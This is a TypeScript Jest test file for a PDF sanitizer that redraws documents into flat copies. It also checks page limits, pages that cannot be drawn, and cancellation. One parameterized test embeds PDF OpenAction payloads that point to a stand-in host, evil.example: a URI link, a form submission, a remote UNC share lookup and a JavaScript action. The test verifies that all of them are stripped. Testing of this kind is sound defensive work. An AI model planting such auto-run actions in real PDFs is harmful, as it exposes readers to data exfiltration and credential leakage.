import { createHash } from 'node:crypto';
import { describe, expect, it } from '@jest/globals';
import { flatCopy } from '#platform/flat-copy';
import { drawHere, type PageDrawer } from '#platform/page-pictures';
import { aPdf } from '../support/pictures';

const options = () => ({ createdAt: new Date(0), signal: new AbortController().signal });

async function copyOf(content: Buffer, drawer: Pick<PageDrawer, 'run'> = drawHere): Promise<Buffer | undefined> {
  const copy = await flatCopy(drawer, content, options());
  return copy === undefined ? undefined : Buffer.concat((await copy.toArray()) as Buffer[]);
}

const pagesOf = (content: Buffer) =>
  drawHere.run({ type: 'count', document: { mediaType: 'application/pdf', content } });

/** Draws as many white pages as a document is said to have. */
const whitePages = (pages: number, broken?: number): Pick<PageDrawer, 'run'> => ({
  run: async (task) => {
    if (task.type === 'count') return pages;
    return task.page === broken ? undefined : drawHere.run({ ...task, page: 1 });
  },
});

describe('the copy of a PDF', () => {
  it.each([
    ['a link', '<</S/URI/URI(https://evil.example)>>'],
    ['a form that sends data', '<</S/SubmitForm/F(https://evil.example)>>'],
    ['a file elsewhere', '<</S/GoToR/F(\\\\\\\\evil.example\\\\share)>>'],
    ['a script', '<</S/JavaScript/JS(app.alert)>>'],
    ['an action that nobody knows yet', '<</S/NeverHeardOf/F(evil)>>'],
  ])('has its pages without %s', async (_what, action) => {
    const original = aPdf(`4 0 obj${action}endobj\n5 0 obj<</OpenAction 4 0 R>>endobj\n`);
    const copy = await copyOf(original);

    expect(await pagesOf(copy ?? Buffer.alloc(0))).toBe(1);
    const text = copy?.toString('latin1') ?? '';
    expect(text).not.toMatch(/evil|OpenAction|\/S ?\/|app\.alert/);
    expect(text).toContain(createHash('sha256').update(original).digest('hex'));
  });

  it('says which pages cannot be displayed, and where it ends', async () => {
    expect(await pagesOf((await copyOf(aPdf(), whitePages(3, 2))) ?? Buffer.alloc(0))).toBe(3);
    expect(await pagesOf((await copyOf(aPdf(), whitePages(302))) ?? Buffer.alloc(0))).toBe(301);
  });

  it('does not exist if no page can be drawn', async () => {
    expect(await copyOf(Buffer.from('%PDF-1.4 nothing'))).toBeUndefined();
  });

  it('is given up once its reader has left', async () => {
    const gone = new AbortController();
    const copy = await flatCopy(whitePages(200), aPdf(), { createdAt: new Date(0), signal: gone.signal });
    gone.abort(new Error('left'));

    await expect(copy?.toArray() ?? Promise.resolve()).rejects.toThrow();
  });
});
